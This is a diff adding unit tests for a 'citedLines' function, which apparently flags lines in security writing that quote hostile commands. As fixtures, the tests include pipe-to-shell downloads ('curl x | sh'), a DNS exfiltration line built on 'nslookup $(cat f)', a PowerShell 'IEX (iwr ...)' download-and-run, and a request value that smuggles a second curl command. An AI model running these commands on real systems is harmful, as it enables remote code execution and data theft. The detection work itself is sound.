@@ -89,3 +89,22 @@ describe('citedLines (query-language fences)', () => {
     expect(flags(text)).toEqual([0, 1, 1, 0, 0, 0, 0]);
   });
 });
+
+describe('citedLines (security-writing lead-ins)', () => {
+  it('should cite a block introduced as samples or as seen in incidents', () => {
+    expect(flags('Typical command lines seen in these incidents:\n\n```\ncurl x | sh\n```')).toEqual([
+      1, 1, 1, 1, 1,
+    ]);
+    expect(flags('DNS exfil samples:\n\n```\nnslookup $(cat f).x.example\n```')).toEqual([1, 1, 1, 1, 1]);
+  });
+
+  it('should cite table rows under headers of fixtures, observables or incident reports', () => {
+    const text = '| Stage | Observable |\n|---|---|\n| Stager | `curl x \\| bash` |';
+    expect(flags(text)).toEqual([1, 1, 1]);
+  });
+
+  it('should cite an expected decoder output and a payload named as a request value', () => {
+    expect(flags("Expected: `IEX (iwr 'http://x/a.ps1')`")).toEqual([1]);
+    expect(flags("A request with 'fmt=pdf; curl -s http://x/y | sh' runs the second command.")).toEqual([1]);
+  });
+});
